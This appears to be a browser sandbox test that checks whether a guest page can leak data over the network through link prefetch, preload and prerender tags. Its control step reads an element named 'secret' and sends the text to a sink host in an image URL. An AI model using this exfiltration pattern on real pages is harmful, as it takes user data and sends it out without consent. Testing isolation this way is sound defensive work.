//! guest = "app"
//! promise = "app-network"
//! policy = { resources = { inlineScripts = true } }
(async () => { for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "dns-prefetch", "preconnect", "manifest", "icon"]) document.head.append(Object.assign(document.createElement("link"), { rel, href: SINK + "/" + rel, as: "fetch" })); })().catch(() => {});
setTimeout(end, 250);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
